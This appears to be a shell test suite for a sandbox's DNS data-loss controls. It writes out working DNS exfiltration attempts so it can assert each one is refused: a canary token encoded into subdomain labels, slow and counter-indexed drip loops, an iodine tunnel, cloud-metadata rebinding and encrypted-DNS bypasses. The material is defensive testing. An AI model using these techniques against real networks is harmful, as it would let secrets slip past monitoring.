#!/bin/sh
# 110-dns: DNS keeps working for legitimate names and stops being a data
# channel. Runs in private network/mount namespaces with a dnsmasq serving
# allowed.test on 127.0.0.53, /etc/resolv.conf pointing at it.
. "$(dirname "$0")/lib.sh"
dns_sandbox
start_http 127.0.0.1 web

TOKEN=ghp_Dns7Exfil3Canary9Token2Kq8Lm5Nn0Rr1Tt
J="--allow *.allowed.test --allow 127.0.0.1 --canary $TOKEN"
reached() { grep -c -- "$1" "$DNS_LOG"; }

# -- legitimate names resolve, with real answers, through every client
out=$(jail $J -- curl -s "http://www.allowed.test:$web_PORT/dns" 2>/dev/null)
check "curl by name resolves and connects" [ "$out" = hello ]
out=$(jail $J -- python3 -c "import socket; print(socket.gethostbyname('www.allowed.test'))" 2>/dev/null)
check "python3 gethostbyname gets the real answer" [ "$out" = 127.0.0.1 ]
out=$(jail $J -- node -e "require('dns').lookup('www.allowed.test',{family:4},(e,a)=>console.log(e?e.code:a))" 2>/dev/null)
check "node dns.lookup (getaddrinfo) gets the real answer" [ "$out" = 127.0.0.1 ]
out=$(jail $J -- node -e "require('dns').resolve4('www.allowed.test',(e,a)=>console.log(e?e.code:a.join()))" 2>/dev/null)
check "node dns.resolve4 (c-ares, raw UDP) gets the real answer" [ "$out" = 127.0.0.1 ]
out=$(jail $J -- node -e "require('dns').resolveTxt('txt.allowed.test',(e,a)=>console.log(e?e.code:a.join()))" 2>/dev/null)
check "node dns.resolveTxt gets the real answer" [ "$out" = v=hello ]
if command -v dig >/dev/null; then
	out=$(jail $J -- dig +short +tries=1 www.allowed.test 2>/dev/null)
	check "dig (raw UDP via syscall()) gets the real answer" [ "$out" = 127.0.0.1 ]
	out=$(jail $J -- dig +short +tcp +tries=1 www.allowed.test 2>/dev/null)
	check "dig over TCP gets the real answer" [ "$out" = 127.0.0.1 ]
else
	fail "dig is not installed (bind9-dnsutils)"
fi
R="$top_builddir/t/dns/resolvers"
for mode in res_query res_nquery gai_a gai_a_nowait ghbn2r; do
	out=$(jail $J -- "$R" $mode www.allowed.test 2>/dev/null)
	check "$mode resolves an allowed name ($out)" sh -c "echo '$out' | grep -q '^ok'"
done
out=$(jail $J -- "$R" res_search txt.allowed.test 2>/dev/null)
check "res_search (TXT) resolves an allowed name" [ "$out" = "ok 1" ]
check "res_* queries are judged with their type" event_has '"host":"txt.allowed.test"' 'via res_query'
EXF="$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n' | cut -c1-56).allowed.test"
for mode in res_query res_nquery gai_a gai_a_nowait ghbn2r; do
	out=$(jail $J -- "$R" $mode "$EXF" 2>/dev/null)
	check "$mode: an exfiltrating name is refused ($out)" sh -c "echo '$out' | grep -q '^fail'"
done
check "none of them reached the server" [ "$(grep -c "$(echo "$EXF" | cut -c1-20)" "$DNS_LOG")" -eq 0 ]
check "raw queries are judged and evented" event_has '"op":"resolve"' '"host":"www.allowed.test"' 'via raw-dns'

# -- one-query exfiltration of the canary, three encodings, three paths
B64=$(printf '%s' "$TOKEN" | base64 | tr '+/' '-_' | tr -d '=')
B32=$(printf '%s' "$TOKEN" | base32 | tr -d '=' | tr 'A-Z' 'a-z')
HEX=$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n')
for enc in B64 B32 HEX; do
	eval "lab=\$$enc"
	# labels are at most 63 bytes: split into two
	name="$(printf '%s' "$lab" | cut -c1-40).$(printf '%s' "$lab" | cut -c41-80).allowed.test"
	out=$(jail $J -- python3 -c "
import socket,sys
try: socket.getaddrinfo(sys.argv[1], 443); print('resolved')
except socket.gaierror as e: print('refused' if e.errno == socket.EAI_FAIL else 'error')" "$name" 2>/dev/null)
	check "$enc exfiltration via getaddrinfo is refused" [ "$out" = refused ]
	jail $J -- dig +short +tries=1 +time=2 "$name" >/dev/null 2>&1
	jail $J -- node -e "require('dns').resolve4(process.argv[1],()=>{})" "$name" >/dev/null 2>&1
	first=$(printf '%s' "$lab" | cut -c1-20)
	check "$enc exfiltration never reached the DNS server (3 clients)" [ "$(reached "$first")" -eq 0 ]
done
check "refusals name the rule and figure" event_has '"verdict":"deny"' '"rule":"dns-' 'score=|budget'
check "refused names are redacted in events" sh -c "! grep -q '$(printf '%s' "$B32" | cut -c1-20)' '$T/events.jsonl'"

# -- static resolvers (busybox, Go without libc) use the jail's resolv.conf,
#    which names the session's DNS proxy: their queries are judged too
PXNS='$(awk "/^nameserver/ { print \$2; exit }" /etc/resolv.conf)'
BB=$(command -v busybox || true)
if [ -n "$BB" ]; then
	out=$(jail $J -- sh -c "$BB nslookup www.allowed.test $PXNS" 2>&1)
	check "busybox-static nslookup resolves an allowed name via the proxy" sh -c "echo \"\$1\" | grep -q '127.0.0.1'" _ "$out"
	jail $J -- sh -c "timeout 5 $BB nslookup $name $PXNS" >/dev/null 2>&1
	check "busybox-static nslookup exfiltration never reached the server" [ "$(reached "$(printf '%s' "$name" | cut -c1-20)")" -eq 0 ]
else
	fail "busybox-static is not installed"
fi
if command -v go >/dev/null; then
	(cd "$top_srcdir/t/seccomp" && CGO_ENABLED=0 GOCACHE="$T/gocache" go build -o "$T/godial" godial.go) 2>/dev/null
	out=$(jail $J -- sh -c "$T/godial -dns $PXNS www.allowed.test" 2>&1)
	check "Go (no libc) resolves an allowed name via the proxy" sh -c "echo \"\$1\" | grep -q 'ok resolved \\[127.0.0.1'" _ "$out"
	out=$(jail $J -- sh -c "$T/godial -dns $PXNS $name" 2>&1)
	check "Go exfiltration query is refused" sh -c "echo \"\$1\" | grep -q '^err resolve'" _ "$out"
	check "Go exfiltration never reached the server" [ "$(reached "$(printf '%s' "$name" | cut -c1-20)")" -eq 0 ]
else
	fail "go is not installed (golang-go)"
fi

# -- slow exfiltration: one short label per query, 200 queries
rm -f "$T/events.jsonl"
jail $J -- python3 -c "
import socket, sys
hexs = sys.argv[1]
ok = refused = 0
for i in range(200):
    chunk = hexs[(i * 4) % len(hexs):(i * 4) % len(hexs) + 4]
    try:
        socket.getaddrinfo('%s.s.allowed.test' % chunk, 80); ok += 1
    except socket.gaierror: refused += 1
print(ok, refused)" "$HEX" > "$T/slow.out" 2>/dev/null
read ok refused < "$T/slow.out"
check "slow one-label-per-query exfiltration trips a budget ($ok allowed, $refused refused)" [ "$refused" -gt 0 ]
check "the budget trip is evented with the figure" event_has '"verdict":"deny"' '"rule":"dns-(budget|reassembled|domain)'
seen=$(grep -o 'query\[A\] [0-9a-f]*\.s\.allowed\.test' "$DNS_LOG" | sed 's/query\[A\] //; s/\..*//' | tr -d '\n')
check "the whole token never reached the server in order" sh -c "! printf '%s' '$seen' | grep -q '$HEX'"

# -- drip with counters: a few hex characters per label plus an index or
#    offset ("6768-0", "705f-4"); cut off within the first quarter
for form in '%s-%d' '%d-%s' 'p%d_%s'; do
	jail $J -- python3 -c "
import socket, sys
hexs, form = sys.argv[1], sys.argv[2]
pieces = [hexs[i:i + 4] for i in range(0, len(hexs), 4)]
ok = refused = 0
first = None
for i, c in enumerate(pieces):
    lab = form % (c, i * 4) if form.startswith('%s') else form % (i, c)
    try:
        socket.getaddrinfo('%s.ctr.allowed.test' % lab, 80); ok += 1
    except socket.gaierror:
        refused += 1
        first = i if first is None else first
print(len(pieces), first if first is not None else len(pieces), refused)" "$HEX" "$form" > "$T/ctr.out" 2>/dev/null
	read n first refused < "$T/ctr.out"
	check "counter drip '$form': cut off within the first quarter ($first of $n allowed)" \
		[ "$((first * 4))" -le "$n" ]
	seen=$(grep -o 'query\[A\] [^ ]*\.ctr\.allowed\.test' "$DNS_LOG" | wc -l)
	check "counter drip '$form': at most a quarter reached the server ($seen)" [ "$((seen * 4))" -le "$n" ]
	: > "$DNS_LOG"
done
check "the counter drip is evented with its rule" event_has '"verdict":"deny"' 'dns-counter-drip|counter-drip'

# -- names below .localhost are answered locally (RFC 6761), never sent
: > "$DNS_LOG"
out=$(jail $J -- python3 -c "
import socket
print(sorted(set(a[4][0] for a in socket.getaddrinfo('app.localhost', 80, 0, socket.SOCK_STREAM))))" 2>/dev/null)
check "getaddrinfo app.localhost is 127.0.0.1 and ::1 ($out)" [ "$out" = "['127.0.0.1', '::1']" ]
out=$(jail $J -- "$R" res_query api.dev.localhost 2>/dev/null)
check "res_query api.dev.localhost is answered ($out)" sh -c "echo '$out' | grep -q '^ok'"
if command -v dig >/dev/null; then
	out=$(jail $J -- dig +short +tries=1 +time=2 Web.LOCALHOST 2>/dev/null)
	check "dig Web.LOCALHOST (raw UDP) is 127.0.0.1 ($out)" [ "$out" = 127.0.0.1 ]
	out=$(jail $J -- dig +short +tries=1 +time=2 AAAA x.localhost. 2>/dev/null)
	check "dig AAAA x.localhost. is ::1 ($out)" [ "$out" = ::1 ]
fi
jail $J -- node -e "require('dns').resolve4('c-ares.localhost',()=>{})" >/dev/null 2>&1
if [ -n "$BB" ]; then
	jail $J -- sh -c "timeout 5 $BB nslookup bb.localhost $PXNS" >/dev/null 2>&1
fi
check "no .localhost name reached dnsmasq" [ "$(grep -ci 'localhost' "$DNS_LOG")" -eq 0 ]
# without the private /etc there is no session proxy: the shim answers
# res_* itself, raw queries to the real name server are refused
for mode in res_query res_nquery gai_a ghbn2r; do
	out=$(jail --no-mountns $J -- "$R" $mode nm-$mode.localhost 2>/dev/null)
	check "--no-mountns $mode of a .localhost name is answered ($out)" sh -c "echo '$out' | grep -q '^ok'"
done
jail --no-mountns $J -- dig +short +tries=1 +time=2 nm-dig.localhost >/dev/null 2>&1
jail --no-mountns $J -- node -e "require('dns').resolve4('nm-cares.localhost',()=>{})" >/dev/null 2>&1
check "--no-mountns: no .localhost name reached dnsmasq" [ "$(grep -ci 'localhost' "$DNS_LOG")" -eq 0 ]
check "a raw .localhost query to a name server is refused with its rule" event_has '"rule":"dns-localhost-upstream"'

# -- rebinding: allowed names that point at loopback or metadata
out=$(jail --allow '*.allowed.test' -- python3 -c "
import socket,errno
for h in ('www.allowed.test','meta.allowed.test'):
    s=socket.socket()
    try: s.connect((h, $web_PORT)); print(h, 'connected')
    except OSError as e: print(h, errno.errorcode.get(e.errno))" 2>/dev/null)
check "allowed name resolving to 127.0.0.1 is refused at connect" sh -c "echo '$out' | grep -q 'www.allowed.test EACCES'"
check "allowed name resolving to 169.254.169.254 is refused at connect" sh -c "echo '$out' | grep -q 'meta.allowed.test EACCES'"
check "rebinding refusals are named" event_has '"op":"connect"' '"host":"meta.allowed.test"' '"rule":"(rebinding|deny 169.254)'

# -- a process without the shim (env -i with --no-mountns; by default the
#    private /etc keeps the shim in) gets only explicit destinations:
#    its own DNS query is read by the seccomp supervisor, but a name allowed
#    only by a wildcard does not open the address to uninspected plaintext
if ip addr show lo 2>/dev/null | grep -q 10.99.0.1; then
	start_http 10.99.0.1 far
	out=$(jail --allow '*.allowed.test' -- curl -s "http://far.allowed.test:$far_PORT/shim" 2>/dev/null)
	check "shimmed curl reaches a wildcard-allowed name" [ "$out" = hello ]
	rm -f "$T/events.jsonl"
	out=$(jail --no-mountns --allow '*.allowed.test' -- env -i /usr/bin/curl -s -S "http://far.allowed.test:$far_PORT/unshimmed" 2>&1)
	check "env -i curl (no shim) is refused a wildcard-only destination" sh -c "! grep -q unshimmed '$far_LOG'"
	check "the refusal says the process is unshimmed" event_has '"rule":"unshimmed via seccomp' '"verdict":"deny"'
	out=$(jail --no-mountns --allow far.allowed.test -- env -i /usr/bin/curl -s "http://far.allowed.test:$far_PORT/exact" 2>/dev/null)
	check "env -i curl reaches an exactly allowed host" [ "$out" = hello ]
	check "and its allow event says it is uninspected" event_has '"verdict":"allow"' 'not inspected'
else
	fail "cannot add 10.99.0.1 in the test namespace"
fi

# -- encrypted DNS is refused by default, with a reason
out=$(jail --allow '*' --allow 127.0.0.0/8 -- python3 -c "
import socket,errno
s=socket.socket()
try: s.connect(('127.0.0.1',853)); print('ok')
except OSError as e: print(errno.errorcode.get(e.errno))
try: socket.getaddrinfo('dns.google',443); print('resolved')
except socket.gaierror as e: print('refused')" 2>/dev/null)
check "DNS over TLS (port 853) is refused" [ "$(echo "$out" | head -1)" = EACCES ]
check "a DNS-over-HTTPS host is refused even under allow *" [ "$(echo "$out" | tail -1)" = refused ]
check "encrypted DNS refusals explain why" event_has '"rule":"dns-over-tls' 'hide'

# -- iodine cannot open a tunnel through the resolver
if command -v iodine >/dev/null; then
	rm -f "$T/events.jsonl"
	# iodine retries a refused send in a tight loop: a hard timeout inside the jail
	"$DLPJAIL" --no-default-policy --log "$T/events.jsonl" --allow '*.allowed.test' -- \
		timeout -s KILL 6 iodine -f -P dlpjailtest -r -I1 127.0.0.53 t.allowed.test \
		> "$T/iodine.out" 2>&1
	check "iodine does not get a tunnel" sh -c "! grep -qi 'connection setup complete' '$T/iodine.out'"
	# a root jail has no CAP_NET_ADMIN (jail_caps.c): iodine cannot even open its tun
	check "iodine's queries are refused and evented (or it gets no tun device)" sh -c \
		"grep -q 'TUNSETIFF.*not permitted' '$T/iodine.out' || grep -q '\"op\":\"resolve\".*\"verdict\":\"deny\"' '$T/events.jsonl'"
	check "no iodine query reached the server" [ "$(grep -c '\.t\.allowed\.test' "$DNS_LOG")" -eq 0 ]
else
	fail "iodine is not installed"
fi
finish
